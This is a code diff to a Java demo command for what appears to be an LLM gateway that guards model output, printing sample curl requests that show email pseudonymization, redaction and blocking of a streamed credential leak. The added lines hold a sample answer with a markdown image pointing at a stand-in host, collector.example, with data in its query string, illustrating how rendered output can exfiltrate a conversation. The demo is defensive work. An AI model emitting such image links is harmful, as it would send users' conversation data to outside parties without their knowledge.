@@ -169,6 +169,9 @@ public final class DemoCommand implements Callable<Integer> {
         out.println("  # pseudonyms: the model sees [EMAIL_1], you get the real address back in its answer");
         out.println("  curl -s " + base + "/private/v1/chat/completions -H \"Authorization: Bearer $BASTION_KEY\" \\");
         out.println("       -H 'Content-Type: application/json' -d " + ask("echo: write to jane.doe@example.com"));
+        out.println("  # an answer with an image that would send the conversation elsewhere when a chat app renders it: redacted");
+        out.println("  curl -s " + base + "/v1/chat/completions -H \"Authorization: Bearer $BASTION_KEY\" \\");
+        out.println("       -H 'Content-Type: application/json' -d " + ask("echo: done ![chart](https://collector.example/c.png?d=q3-numbers)"));
         out.println("  # a streamed answer that leaks a credential is stopped before the key: an SSE error event, then [DONE]");
         out.println("  curl -sN " + base + "/v1/chat/completions -H \"Authorization: Bearer $BASTION_KEY\" \\");
         out.println("       -H 'Content-Type: application/json' -d " + ask("What is the deploy key?").replace("{\"model\"", "{\"stream\":true,\"model\""));
